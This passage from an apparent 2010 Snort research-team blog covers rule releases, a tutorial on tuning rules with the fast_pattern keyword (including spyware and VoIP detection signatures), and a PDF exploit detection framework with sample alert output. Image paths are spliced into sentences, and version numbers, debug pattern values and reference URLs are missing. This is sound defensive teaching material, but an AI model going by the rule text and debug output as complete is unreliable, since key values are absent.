Thursday, April 29, 2010

Rule release for today, Thursday April 29th, 2010

Performance update release for 2.8.6 to utilize HTTP buffers and fast_pattern.

Check here for details.

Tuesday, April 27, 2010

Using Snort fast patterns wisely for fast rules

Anyone that's ever written their own Snort rule has wondered, at some point or another, about how to make their rule(s) faster. While some things are obvious - don't use a PCRE with a bunch of ".*" clauses, for example - others are less so. Today I'd like to go over one of the more subtle methods of speeding up a rule, which has been highlighted by some new features in Snort 2.8.6.

Any rule that has one or more content matches in it has a fast pattern associated with it - the string that Snort puts into its fast pattern matching engine to beginthe process of detection. Chosen somewhat intelligently by Snort itself, this pattern is usually the longest string in a rule; as a general rule of thumb, the longer the string is, the faster a rule will be, with strings of four or more bytes typically being necessary to reapthe benefits of the fast pattern matcher. Only if this string is found in a packet does Snort evaluate the remaining options in the rule - which means that the fewer times the fast pattern matches, the less performance drag the rule will create on Snort. Thus, the goal of a rule-writer should be to choose a fast pattern that will be as closely associated with the actual triggering conditions of the rule as possible - if you can generate an alert for most of the times you actually enter a rule, you've successfully targeted your detection, and written a rule with the minimum possible performance impact on Snort.

Up until Snort 2.8.6,unfortunately, rule writers had little control over what was chosen as a rule's fast pattern. With the introduction of the fast_pattern keyword and a new config option, however, that's all changed.

Let's start by going over the new config option, since it will provide us with the intelligence we need to properly use the fast_pattern keyword. It's really rather simple; just add:

debug-print-fast-pattern your config detection statement (NOTE: if you try to specify this on a line separate from your non-default config detection statement, you'll end up setting all detection parameters back to their defautls.)

Just add this line to your Snort config, and you're good to go. If you run Snort with this option enabled, you'll get output similar to the following:

Fast pattern matcher: Content
Fast pattern set: no
Fast pattern only: no
Negated: no
Pattern offset,length: nonePattern truncated: no
Original pattern
Final pattern

For the sake of this example, we're running Snort with just the following rule enabled:

alert udp $HOME_NET any -> $EXTERNAL_NET 5060 (msg:"POLICY Gizmo register VOIP state"; content:"INVITE sip|3A|"; nocase; content:"User-Agent|3A|"; nocase; content:"Gizmo"; nocase; pcre:"/^User-Agent\x3A[^\n\r]+Gizmo/smi"; reference:url,; classtype:policy-violation; sid:6407; rev:1;)

As noted earlier, Snort has chosen the longest available string - "INVITE sip|3A|" - as the fast pattern for the rule. The problem, unfortunately, is that this pattern will match on all SIP invitations, whereas the rule will generate an alert on only a tiny portion of those requests. Clearly, this is sub-optimal from a performance perspective.

With the new fast_pattern keyword, however, we can fix this problem. By updating the rule to read as follows:

alert udp $HOME_NET any -> $EXTERNAL_NET 5060 (msg:"POLICY Gizmo register VOIP state"; content:"INVITE sip|3A|"; nocase; content:"User-Agent|3A|"; nocase; content:"Gizmo"; nocase; fast_pattern; pcre:"/^User-Agent\x3A[^\n\r]+Gizmo/smi"; reference:url,; classtype:policy-violation; sid:6407; rev:1;)

...we get the following output from Snort:

Fast pattern matcher: Content
Fast pattern set: yes
Fast pattern only: no
Negated: no
Pattern offset,length: none
Pattern truncated: noOriginal pattern
Final pattern

As you can see, the fast pattern has been changed per the keyword we used, and Snort now notes that we've explicitly set the fast pattern (i.e. "Fast pattern set: yes"). Since the string "Gizmo" is likely to be orders of magnitude less common than "INVITE sip|3A|" in SIP traffic, the number of times this rule is evaluated will drop dramatically, and the rule will get a commensurate performance boost.

So based on this information, given the following rule, what would you expect the fast pattern to be for the following rule?

alert tcp $HOME_NET any -> $EXTERNAL_NET $HTTP_PORTS (msg:"SPYWARE-PUT Hijacker xp antispyware 2009 runtime detection - pre-sale webpage"; flow:to_server,established; uricontent:"/buy.html?"; nocase; uricontent:"wmid="; nocase; uricontent:"skey="; nocase; content:"Host|3A|"; nocase; reference:url,; reference:url,; classtype:misc-activity; sid:16136; rev:2;)

If you answered "Host|3A|", you'd be wrong - because of the way Snort picks fast patterns when you have a mix of buffers:

Fast pattern matcher: URI content
Fast pattern set: no
Fast pattern only: no
Negated: no
Patternoffset,length: none
Pattern truncated: no
Original pattern
Final pattern

As you can see, Snort chose the longest pattern out of the URI buffer. In a lot of cases, this default will make sense - after all, the URI buffer is usually smaller than the regular content buffer, and searching a smaller space will be faster. In this particular case, however, we've ended up with a fast pattern that will be fairly common in web traffic - or, at the very least, morecommon than a search for aparticular host string. Since the goal is to enter the rule as little as possible, we want to override this behavior, and go for the more unique pattern:

alert tcp $HOME_NET any -> $EXTERNAL_NET $HTTP_PORTS (msg:"SPYWARE-PUT Hijacker xp antispyware 2009 runtime detection - pre-sale webpage"; flow:to_server,established; uricontent:"/buy.html?"; nocase; uricontent:"wmid="; nocase; uricontent:"skey="; nocase; content:"Host|3A|"; nocase; fast_pattern; reference:url,; reference:url,; classtype:misc-activity; sid:16136; rev:2;)

Fast pattern matcher: Content
Fast pattern set: yes
Fast pattern only: noNegated: no
Pattern offset,length: none
Pattern truncated: no
Original pattern
Final pattern

We can actually optimize even further from here. As it turns out, once a fast pattern has been matched, and a rule has been entered, Snort will spend CPU cycles looking for the content chosen as the fast pattern again, this time using the content matching engine. While this seems duplicative, in many cases, it's useful; for example, if a content clause follows the one chosen as the fast pattern content, and that second content uses distance and within to force a match only relative to the end of the fast pattern, Snort needs to find the fast pattern that second time to properlyevaluate the second content clause. However, for this particular rule, that's not the case, and so there's no point in bothering to find this string a second time. With that in mind, we'll change fast_pattern; to fast_pattern:only;, and save the CPU cycles during rule evaluation. Finally, since the string we're looking for should only be found in the HTTP headers,we'll use the new http_header; keyword to restrict the search to that buffer (which is explicitly split out for the first time in Snort 2.8.6), and end up with the following rule:

alert tcp $HOME_NET any -> $EXTERNAL_NET $HTTP_PORTS (msg:"SPYWARE-PUT Hijacker xp antispyware 2009 runtime detection - pre-sale webpage"; flow:to_server,established; uricontent:"/buy.html?"; nocase; uricontent:"wmid="; nocase; uricontent:"skey="; nocase; content:"Host|3A|"; nocase; fast_pattern:only; http_header; reference:url,; reference:url,; classtype:misc-activity; sid:16136; rev:2;)

...and the associated debug output:

Fast pattern matcher: URI content
Fast pattern set: yes
Fast pattern only: yes
Negated: noPattern offset,length: none
Pattern truncated: no
Original pattern
Final pattern

(Note: just because the debug output specifies "URI content" here doesn't actually mean that the pattern is being searched for in the URI buffer. I've verified through testing and talking to the development team that the HTTP header buffer is what's being searched here; the output is the way it is because the HTTP-related buffers, including the URI buffer and the header buffer, are grouped together at the point this output is printed.)

One additional item to be cognizant of, for those who begin using the newly available ac-split fast pattern method introduced in 2.8.6, is pattern truncation. The recommended configuration for this method includes the directive "max-pattern-len 20", which will truncate fast patterns at 20 bytes; doing so helps with the memory footprint for Snort, and generally 20 bytes is sufficient for simply using a fast pattern to determine entry into a rule. If your Snort install is set up in this manner, and you need to specify which bytes of a long pattern are the most unique, you can use the fast_pattern:x,y; modifier to the content you're operating on, to specify the start and end bytes of the portion of thecontent you wish to use as the fast pattern (you can exceed the 20 byte truncation limit by doing this - Snort will take all of the specified bytes). Note that if you specify fast_pattern:only; on a pattern longer than the number of bytes specified in your configuration, the entire pattern will be used, regardless of its size.

With this new functionality in hand, the VRT is busy reviewing our entire ruleset, looking for places where rules can be optimized by proper tweaking of fast pattern settings. Expect to see thousands of changes to the rules over the next several weeks as we work through and implement all of these changes.

Monday, April 26, 2010

Rule release for today- April 26th, 2010

This release contains support for Snort Additionally, new packages have been added that contain 4 digit version numbers.

New package names:
1. snortrules-snapshot-2853_s.tar.gz
2. snortrules-snapshot-2860_s.tar.gz

The packages have been updated with support for Snort Additionally, a number of improvements have been made to thepackages to help clarify which packages to use with your specific snort version.

The old package names are still available but they are now symlinked to
the new package names. The symlinks will exist for the next 30 days. This should hopefully prevent auto updaters from failing to update correctly.

Symlinks Subscriber:
1. snortrules-snapshot-2853_s.tar.gz -> snortrules-snapshot-CURRENT_s.tar.gz
2. snortrules-snapshot-2853_s.tar.gz -> snortrules-snapshot-2.8_s.tar.gz

The above is not a typo. The 2853 is symlinked to CURRENT and the 2.8 packages this is intentional, as to not break auto updaters that define CURRENT incorrectly.Registered Users:
There are no new symlinks for registered users as the new packages won't be available to registered users for 30 days.

Additional Package Updates.

1. Packages are now locked to the version of snort they support. This includes sub directories in the packages. For examples the 2853 packages now only contain SO rules for

2. Snort.conf in etc/ directory has been updated to support additional features in and

3. Preprocessor Rules are now contained in the package.

4. For Sensitive data rules are contained in the package.

Not running and downloading CURRENT / 2.8 / 2853 packages ?:

1. You will need to modify oinkmaster, pulled pork, or whatever update system you are using to remove version specific rule keywords or snort will fail to load.

Thursday, April 22, 2010

A New Detection Framework

We just completed a talk here in Dubai on some detection capability research the VRT has been doing.  The subtitle of the presentation, "What would you do with a pointer and a size?" pretty much sums up the potential of the project.  It all started last December at the SANS IDS conference.  In talking to both attendees and presenters, it became clear there was a lack of capability for high-end security and response personnel.  Repeatedly we were asked about providing a greater depth of detection, dropping a file to disk for longer analysis and logging packets for an extended period of time.  In short, there were solutions needed that weren't being provided.

So Patrick Mullen and I sat down and started fiddling with some ideas.  I worked on deep parsing and detection on PDF files and Patrick worked on ways to provide me the full file data.  Initially we had an SO rule that grabbed PDF files and called my PDF parser.  We got it working, and it was pretty sexy.  But it blocked the Snortprocess and clearly wasn't the way to go.  It did, however, show that we were on to something.

Lurene, Patrick, Nigel and I then locked ourselves in a room and hammered out the initial design of what would come to be known NRT, the Near Real Time detection project.  The project goals were straightforward, if not easy:  Create a system that allowed arbitrary data sources to pass data to specialized detection systems and provide every scrap of data we could back to the incident response teams.

With this laid out, I got a hold of Mike Cloppert, one of the guys we had spokento at the IDS conference.  We scheduled a call with the team he works with and discussed with them what they wanted out of a detection system.  At the completion of the call, we all were quite pleased.  Everything they had asked for was alreadyin the design, and quite a bit more as well.  We were on the right track.

Coding began.  This involved every person on the VRT and a lot of late nights.  Our goal for the first phase of POC was to prove that we could use Snort as a datasource for a system that would then provide analysis out of band with network traffic and alert back into the system.  At the end of a hectic month of coding (along with all of our other work) we had a static preprocessor that pulled files off the wire and passed them to a PDF detection module, a ClamAV engine and a purelogging module.  The end result was the capability to thread out (non-blocking) detection of PDf files, handling the common evasion techniques for PDF files and then alert back to Snort:

04/21-11:17:58.1271873878 [**] [300:3221225473:1] URL:/wrl/first.pdf Hostname:wrl Alert Info:Probable exploit of CVE-2009-0658 (JBIG2) detected in object 8, declared as /Length 29/Filter [/FlateDecode/ASCIIHexDecode/JBIG2Decode ]  [**]

{TCP} ->
04/21-11:17:58.12718738780:0:0:0:0:0 -> 0:0:0:0:0:0 type:0x800 len:0x0 -> TCP TTL:240 TOS:0x10 ID:0 IpLen:20 DgmLen:1280
***AP*** Seq: 0x0  Ack: 0x0  Win: 0x0  TcpLen: 20
55 52 4C 3A 2F 77 72 6C 2F 66 69 72 73 74 2E 70 URL:/wrl/first.p
64 66 20 48 6F 73 74 6E 61 6D 65 3A 77 72 6C 20 df Hostname:wrl
41 6C 65 72 74 20 49 6E 66 6F 3A 50 72 6F 62 61 Alert Info:Proba
62 6C 65 20 65 78 70 6C 6F 69 74 20 6F 66 20 43 ble exploit of C
56 45 2D 32 30 30 39 2D 30 36 35 38 20 28 4A 42 VE-2009-0658 (JB
49 47 32 29 20 64 65 74 65 63 74 65 64 20 69 6E IG2) detected in
